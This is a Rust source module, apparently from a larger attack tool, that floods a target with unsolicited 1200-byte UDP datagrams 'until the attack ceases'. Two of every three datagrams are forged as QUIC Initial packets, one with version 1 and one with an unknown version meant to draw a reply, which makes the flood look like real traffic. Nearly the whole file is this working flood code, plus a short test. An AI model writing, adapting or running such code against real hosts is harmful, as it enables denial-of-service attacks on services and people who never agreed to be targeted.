//! Datagrams that no peer asked for.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use tokio::net::UdpSocket;

use super::{Shared, add, words};

/// Datagrams that go out with one permit.
const ROUND: u64 = 10;

/// Bytes of each: as many as QUIC wants of a first one (RFC 9000, section 14.1).
const LENGTH: usize = 1200;

/// QUIC (RFC 9000, section 17.2): the first packet of version 1 with an identifier of 8 bytes, and one of a version that
/// nobody knows, which is to be answered.
const INITIAL: [u8; 6] = [0xc3, 0, 0, 0, 1, 8];
const UNKNOWN: [u8; 6] = [0xc3, 0x1a, 0x2a, 0x3a, 0x4a, 8];

/// Sends datagrams until the attack ceases.
pub(super) async fn again_and_again(shared: Arc<Shared>) {
    let Ok(socket) = UdpSocket::bind(SocketAddr::new(IpAddr::V4(shared.source(0)), 0)).await else { return };
    let mut number = 0_u64;
    while shared.permit().await {
        for _ in 0..ROUND {
            number = number.saturating_add(1);
            match socket.send_to(&datagram(number), SocketAddr::V4(shared.plan.target)).await {
                Ok(_) => add(&shared.opened, 1),
                Err(_) => add(&shared.failed, 1),
            }
        }
    }
}

/// One of three kinds in turn.
fn datagram(number: u64) -> Vec<u8> {
    let mut out = words::garbage(number, LENGTH);
    let head: &[u8] = match number.checked_rem(3) {
        Some(0) => &INITIAL,
        Some(1) => &UNKNOWN,
        _ => &[],
    };
    out.iter_mut().zip(head).for_each(|(byte, head)| *byte = *head);
    out
}

#[cfg(test)]
mod tests {
    use super::{INITIAL, LENGTH, UNKNOWN, datagram};

    #[test]
    fn two_of_three_look_like_quic() {
        assert!(datagram(3).starts_with(&INITIAL) && datagram(4).starts_with(&UNKNOWN));
        assert!((3..6).all(|number| datagram(number).len() == LENGTH));
    }
}
